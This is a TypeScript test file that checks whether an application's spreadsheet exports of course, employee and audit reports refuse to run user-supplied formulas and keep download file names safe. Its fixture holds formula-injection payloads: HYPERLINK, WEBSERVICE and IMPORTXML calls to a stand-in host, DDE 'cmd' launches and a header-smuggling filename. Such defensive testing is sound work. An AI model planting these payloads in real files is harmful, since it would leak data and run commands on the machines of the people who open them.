import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import * as xlsx from 'xlsx'
import {
  category,
  department,
  jobTitle,
  renameUnit,
  terminal,
  type Unit,
} from '../../domain/organisation/units.ts'
import type { Person } from '../support/classroom.ts'
import { right } from '../support/exam.ts'
import { type Graded, openGraded } from '../support/graded.ts'

/** What a spreadsheet would run, begun by each of the signs that it begins with, and what would leave the name of a file. */
const hostile = {
  person: '=HYPERLINK("http://malo.example/"&A1,"Ana")',
  rival: "@SUM(1+9)*cmd|' /C calc'!A0",
  course: '=1+1"; filename="../../malo.exe',
  module: '+Módulo',
  lesson: "-2+3+cmd|' /C calc'!D2",
  test: '=WEBSERVICE("http://malo.example")',
  department: "+cmd|' /C calc'!A0",
  jobTitle: '-1+1',
  terminal: '@terminal()',
  category: '=CATEGORY()',
  reason: '=IMPORTXML("http://malo.example";"//a")',
} as const

let graded: Graded
let admin: Person
let learner: Person
let moments: readonly [string, string]

beforeAll(async () => {
  graded = await openGraded({ withTest: true })
  const { app, room, courseId, moduleId, first, test: taken } = graded
  admin = room.admin
  const before = app.clock.now.toISOString()
  app.clock.advance(60_000)
  const rename = (unit: Unit, id: string | undefined, name: string) =>
    app.services.execute(app.command('Rename'), unit, id ?? '', renameUnit(unit, name))
  const { departments, jobTitles, terminals } = app.office
  await rename(department, departments[0], hostile.department)
  await rename(jobTitle, jobTitles[0], hostile.jobTitle)
  await rename(terminal, terminals[0], hostile.terminal)
  await rename(category, room.categoryId, hostile.category)
  await room.describe(room.author, courseId, { name: hostile.course })
  const lesson = 'mutation ($id: ID, $name: String) { Lesson_update(id: $id, name: $name) { pending } }'
  await room.gql(lesson, { id: first, name: hostile.lesson }, room.author)
  await room.gql(lesson, { id: taken, name: hostile.test }, room.author)
  await room.gql(
    'mutation ($m: ModuleInput!) { Module_singleUpdate(moduleData: $m) { id } }',
    { m: { id: moduleId, name: hostile.module } },
    room.author,
  )
  learner = await room.newPerson({ fullName: hostile.person })
  const rival = await room.newPerson({ fullName: hostile.rival })
  await graded.requireOfAll()
  await graded.save({
    [learner.id]: { grade: 80, published: true },
    [rival.id]: { grade: 50, published: true },
  })
  const [{ userEvaluationId, version }] = [await graded.rowOf(learner)]
  expect(
    (
      await graded.save({
        [learner.id]: { grade: 90, published: true, userEvaluationId, version, reason: hostile.reason },
      })
    ).status,
  ).toBe(200)
  const { body } = await app.rest('POST', `/lessons/${taken}/attempts`, undefined, rival.token)
  await app.rest(
    'POST',
    '/lessons/answers',
    { lessonId: taken, answers: body.questions.map(right) },
    rival.token,
  )
  await app.settled()
  app.clock.advance(60_000)
  moments = [before, app.clock.now.toISOString()]
})
afterAll(() => graded.app.close())

type File = { readonly bytes: Uint8Array; readonly name: string }

const fileOf = async (method: 'GET' | 'POST', path: string, body?: object): Promise<File> => {
  const { status, body: bytes, headers } = await graded.app.rest(method, path, body, admin.token)
  expect([path, status]).toEqual([path, 200])
  return { bytes, name: headers.get('content-disposition') ?? '' }
}

const cellsOf = ({ bytes }: File): readonly xlsx.CellObject[] => {
  const book = xlsx.read(bytes, { cellFormula: true, cellNF: true })
  return book.SheetNames.flatMap((name) =>
    Object.entries(book.Sheets[name] ?? {}).flatMap(([at, cell]) =>
      at.startsWith('!') ? [] : [cell as xlsx.CellObject],
    ),
  )
}

/** Every new file, with what somebody wrote that stands in it. */
const files = (): readonly (readonly [path: string, says: readonly string[], body?: object])[] => {
  const { courseId, first } = graded
  const [from, to] = moments
  const {
    person,
    rival,
    course,
    lesson,
    department: unit,
    jobTitle: job,
    terminal: place,
    category: kind,
  } = hostile
  const ofPeople = [person, rival, unit, place]
  const past = `asOf=${to}`
  const history = (of: object) => ({ format: 'xlsx', history: of })
  return [
    ['/reports/courses/export', [course, kind]],
    [`/reports/courses/export?${past}`, [course, kind]],
    ['/reports/employees/export', [...ofPeople, job]],
    [`/reports/employees/export?${past}`, [...ofPeople, job]],
    [`/reports/courses/${courseId}/employees/export`, ofPeople],
    [`/reports/courses/${courseId}/employees/export?${past}`, ofPeople],
    [`/reports/employees/${learner.id}/courses/export`, [course, kind]],
    [`/reports/employees/${learner.id}/courses/export?${past}`, [course, kind]],
    ['/reports/plan/employees/export', [...ofPeople, job]],
    ['/reports/plan/courses/export', [course, kind]],
    [`/audit/comparison/export?list=grades&id=${first}&from=${from}`, [person, rival, hostile.reason]],
    [`/audit/comparison/export?list=courses&from=${from}`, [course]],
    [`/audit/comparison/export?list=employees&from=${from}`, [person]],
    [`/audit/comparison/export?list=courseEmployees&id=${courseId}&from=${from}&to=${to}`, [rival]],
    ['/audit/exports', [course, lesson], history({ kind: 'course', id: courseId })],
    ['/audit/exports', [person, hostile.reason, lesson], history({ courseId, userId: learner.id })],
    ['/audit/exports', [person, course], history({})],
    ['/audit/exports', [unit], history({ kind: 'department', id: graded.app.office.departments[0] })],
    ['/employees/export', ofPeople],
  ]
}

describe('[RPT-06] a file of reports and histories', () => {
  test('runs nothing that somebody has written: every text is a cell of text, every other a figure', async () => {
    for (const [path, says, body] of files()) {
      const file = await fileOf(body ? 'POST' : 'GET', path, body)
      const cells = cellsOf(file)
      expect([
        path,
        cells.filter(({ f, F, l }) => f !== undefined || F !== undefined || l !== undefined),
      ]).toEqual([path, []])
      for (const { t, z, v } of cells)
        expect([path, v, t, t === 's' ? z : typeof v]).toEqual([
          path,
          v,
          t === 'n' ? 'n' : 's',
          t === 'n' ? 'number' : '@',
        ])
      const texts = cells.flatMap(({ v }) => (typeof v === 'string' ? [v] : [])).join('\n')
      for (const text of says) expect([path, text, texts.includes(text)]).toEqual([path, text, true])
    }
  })

  test('keeps its name, whatever a course or a person is called', async () => {
    for (const [path, , body] of files()) {
      const { name } = await fileOf(body ? 'POST' : 'GET', path, body)
      expect([path, name]).toEqual([
        path,
        expect.stringMatching(
          /^attachment; filename="[^"/\\\r\n]+\.xlsx"; filename\*=UTF-8''[\w%.~!-]+\.xlsx$/,
        ),
      ])
    }
  })
})
